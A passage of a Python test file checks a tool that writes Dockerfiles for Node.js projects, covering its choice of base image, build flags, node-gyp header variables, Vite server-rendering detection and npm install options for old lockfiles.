    assert "NODE_OPTIONS" not in text


@pytest.mark.parametrize("asked", [">=18", "20"])
def test_an_old_framework_gets_the_old_hashes_where_a_newer_node_is_asked_for(
    project: MakeProject, asked: str
) -> None:
    text = dockerfile_of(project, old_site(engines={"node": asked}))
    assert "RUN NODE_OPTIONS=--openssl-legacy-provider npm run build\n" in text


def test_a_build_that_sees_to_the_old_hashes_itself_is_left_alone(project: MakeProject) -> None:
    build = "NODE_OPTIONS=--openssl-legacy-provider react-scripts build"
    text = dockerfile_of(project, old_site(scripts={"build": build}))
    assert "FROM node:26-slim AS build\n" in text
    assert "RUN npm run build\n" in text


def test_the_projects_own_old_node_stays(project: MakeProject) -> None:
    assert "FROM node:14-bullseye-slim" in dockerfile_of(project, old_site(), {".nvmrc": "14"})
    assert "FROM node:26-slim" in dockerfile_of(project, old_site(), {".nvmrc": "lts/*"})


@pytest.mark.parametrize(
    ("package", "name"),
    [
        ({}, "npm_package_config_node_gyp_nodedir"),
        ({"engines": {"node": "24"}}, "npm_config_nodedir"),
        (
            {"engines": {"node": "24"}, "packageManager": "npm@12.2.0"},
            "npm_package_config_node_gyp_nodedir",
        ),
        ({"packageManager": "pnpm@10.0.0"}, "npm_config_nodedir"),
    ],
)
def test_headers_are_named_as_the_bundled_node_gyp_knows_them(
    project: MakeProject, package: dict[str, object], name: str
) -> None:
    text = dockerfile_of(
        project, EXPRESS | {"dependencies": {"sqlite3": "6"}} | package, {"server.js": LISTEN}
    )
    assert f"ENV {name}=/usr/local\n" in text


RENDERED = {
    "scripts": {
        "dev": "node server",
        "build": "npm run build:client && npm run build:server",
        "build:client": "vite build --outDir dist/client",
        "build:server": "vite build --ssr src/entry-server.js --outDir dist/server",
        "preview": "cross-env NODE_ENV=production node server",
    },
    "dependencies": {"express": "5"},
    "devDependencies": {"vite": "8", "cross-env": "7"},
}


def test_a_server_of_its_own_renders_what_vite_builds_for_it(project: MakeProject) -> None:
    text = dockerfile_of(project, RENDERED, {"server.js": LISTEN, "index.html": ""})
    assert 'CMD ["node", "server"]' in text
    assert "nginx" not in text


@pytest.mark.parametrize(
    "scripts",
    [
        {"build": "vite build", "preview": "node server"},
        {"build": "vite build && vite build --ssr src/pages.js", "preview": "vite preview"},
    ],
)
def test_without_both_vite_makes_a_site(project: MakeProject, scripts: dict[str, str]) -> None:
    package = {**RENDERED, "scripts": scripts}
    assert "nginx" in dockerfile_of(project, package, {"server.js": LISTEN, "index.html": ""})


def test_a_lockfile_of_npm_6_is_followed_with_peers_as_that_had_them(project: MakeProject) -> None:
    files = {"server.js": LISTEN, "package-lock.json": '{"lockfileVersion": 1}'}
    assert "npm ci --omit=dev --legacy-peer-deps\n" in dockerfile_of(project, EXPRESS, files)
    said = verdict_of(project, EXPRESS, files).findings.warnings
    assert any("was written by npm 6" in one for one in said)
    patched = EXPRESS | {"scripts": {"start": "node server.js", "postinstall": "patch-package"}}
    text = dockerfile_of(project, patched, files)
    assert "npm ci --legacy-peer-deps\n" in text
    assert "npm prune --omit=dev --ignore-scripts --legacy-peer-deps\n" in text
    files["package-lock.json"] = '{"lockfileVersion": 3, "packages": {}}'
    assert "peer" not in dockerfile_of(project, EXPRESS, files)
